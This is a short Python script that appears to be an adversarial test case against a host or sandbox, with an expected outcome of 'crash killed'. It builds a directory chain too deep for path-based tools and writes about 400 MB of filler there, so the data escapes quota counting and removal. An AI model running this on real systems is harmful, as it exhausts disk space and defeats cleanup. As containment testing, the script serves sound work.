"""Tries: write where no path leads, so that it is neither counted nor removed.
Against: the host
Ends: crash killed
"""

import os
import time

at = os.open(".", os.O_RDONLY)
for _ in range(60):
    os.mkdir("d" * 200, dir_fd=at)
    at, above = os.open("d" * 200, os.O_RDONLY, dir_fd=at), at
    os.close(above)
for number in range(4):
    file = os.open(f"fill{number}", os.O_CREAT | os.O_WRONLY, dir_fd=at)
    for _ in range(100):
        os.write(file, bytes(1 << 20))
time.sleep(10)
